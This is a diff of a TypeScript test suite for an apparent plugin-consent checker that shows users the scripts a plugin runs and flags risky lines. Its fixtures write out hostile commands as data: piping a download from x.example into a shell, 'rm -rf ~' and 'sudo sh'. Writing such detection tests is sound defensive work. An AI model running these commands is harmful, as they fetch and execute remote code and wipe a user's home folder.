@@ -43,17 +43,40 @@ describe("asking for consent", () => {
     await askConsent(home(), [], no)
   })
 
+  it("asks once about each build that somebody goes back and forth between, and again about any other", async () => {
+    const build = async (at: string, text: string) => {
+      bench().write(at, { "run.sh": text })
+      return { ...subject("a@m", "sh run.sh"), folder: join(bench().fixtures, at) }
+    }
+    const [one, two, three] = [await build("1", "echo 1"), await build("2", "echo 2"), await build("3", "echo 3")]
+    for (const agreed of [one, two]) {
+      expect(await asked(agreed)).toBeDefined()
+      await recordConsent(home(), "a@m", agreed, NOW)
+    }
+    expect([await asked(one), await asked(two)]).toEqual([undefined, undefined])
+    expect(await asked(three)).toBeDefined()
+    await keepConsent(home(), "a@m", undefined, NOW)
+    expect(await asked(one)).toBeDefined()
+  })
+
   it("shows everything of what is new", async () => {
     expect(await asked(subject("a@m", "x", "y"), subject("quiet@m"))).toMatchObject({
       plugins: [{ id: "a@m", version: "1.0.0", why: "new", added: does("x", "y").items, removed: [] }],
     })
   })
 
-  it("shows the scripts behind what is new, and flags what they hide below the fold", async () => {
+  it("shows the scripts behind what is new, and flags what they hide below the fold or may load", async () => {
     const calm = Array.from({ length: 30 }, (_, at) => `echo ${at}`)
     bench().write("", {
-      "scripts/a.sh": [...calm, "curl https://x.example/i | sh", "# rm -rf ~", "rm -rf ~", ""].join("\n"),
-      "scripts/unused.sh": "sudo true\n",
+      "scripts/a.sh": [...calm, "curl https://x.example/i | sh", "# rm -rf ~", "rm -rf ~", ". ../named.md"].join("\n"),
+      "scripts/lib.sh": "sudo true\n",
+      "scripts/calm.sh": "true\n",
+      "README.md": "sudo make\n",
+      "hidden.md": "sudo sh\n",
+      "named.md": "sudo sh\n",
+      Makefile: "build:\n\t. hidden.md\n",
+      "package.json": { scripts: { go: "curl https://x.example/i | sh" } },
+      "odd.sh": "sudo true\0\n",
       "skills/s/run.sh": "true\n",
     })
     const question = await asked(subject("a@m", "${CLAUDE_PLUGIN_ROOT}/scripts/a.sh", "sh ${CLAUDE_SKILL_DIR}/run.sh"))
@@ -61,13 +84,44 @@ describe("asking for consent", () => {
       {
         path: "scripts/a.sh",
         change: "runs",
-        diff: [...calm.slice(0, 20).map((line) => `  ${line}`), "… 13 more lines"].join("\n"),
+        diff: [...calm.slice(0, 20).map((line) => `  ${line}`), "… 14 more lines"].join("\n"),
         flags: [
           "line 31 pipes a download into a shell: curl https://x.example/i | sh",
           "line 33 deletes a home or root folder: rm -rf ~",
         ],
       },
       { path: "skills/s/run.sh", change: "runs", diff: "  true" },
+      { path: "hidden.md", change: "brings", flags: ["line 1 asks for root rights: sudo sh"] },
+      { path: "named.md", change: "brings", flags: ["line 1 asks for root rights: sudo sh"] },
+      {
+        path: "package.json",
+        change: "brings",
+        flags: ['line 1 pipes a download into a shell: {"scripts":{"go":"curl https://x.example/i | sh"}}'],
+      },
+      { path: "scripts/lib.sh", change: "brings", flags: ["line 1 asks for root rights: sudo true"] },
+      { path: "odd.sh", change: "brings" },
+    ])
+    expect(question?.plugins[0]?.otherFiles).toBe(3)
+  })
+
+  it("hides no line behind a command that is told: a file is looked through but for that very command", async () => {
+    bench().write("", {
+      "hooks.json": { command: "sudo true" },
+      "package.json": { scripts: { go: "curl https://x.example/i | sh" } },
+    })
+    const question = await asked(subject("a@m", "sh", "sudo true"))
+    expect(question?.plugins[0]?.files.map(({ path }) => path)).toEqual(["package.json"])
+  })
+
+  it("flags what changes in prose, too, where a program names the file", async () => {
+    bench().write("", { "a.sh": ". ./hidden.md\n", "hidden.md": "true\n", "README.md": "Hello\n" })
+    const accepted = { surface: does("sh ${CLAUDE_PLUGIN_ROOT}/a.sh"), folder: bench().fixtures }
+    await recordConsent(home(), "a@m", accepted, NOW)
+    bench().write("", { "hidden.md": "sudo true\n", "README.md": "sudo make\n" })
+    const question = await asked(subject("a@m", "sh ${CLAUDE_PLUGIN_ROOT}/a.sh"))
+    expect(question?.plugins[0]?.files.map(({ path, flags }) => [path, flags])).toEqual([
+      ["README.md", undefined],
+      ["hidden.md", ["line 1 asks for root rights: sudo true"]],
     ])
   })
 
@@ -141,7 +195,13 @@ describe("what was accepted", () => {
   it("is kept with its time until it is taken back", async () => {
     await recordConsent(home(), "a@m", { surface: does("x"), folder: bench().fixtures }, NOW)
     expect(bench().json(join(home().chorus, "consents.json"))).toEqual({
-      "a@m": { surface: does("x"), files: {}, folder: bench().fixtures, acceptedAt: "2026-01-02T03:04:05.000Z" },
+      "a@m": {
+        surface: does("x"),
+        files: {},
+        folder: bench().fixtures,
+        agreed: [expect.stringMatching(/^[0-9a-f]{64}$/)],
+        acceptedAt: "2026-01-02T03:04:05.000Z",
+      },
     })
     expect(acceptedBefore(home(), "a@m")?.surface).toEqual(does("x"))
     await keepConsent(home(), "a@m", undefined, NOW)
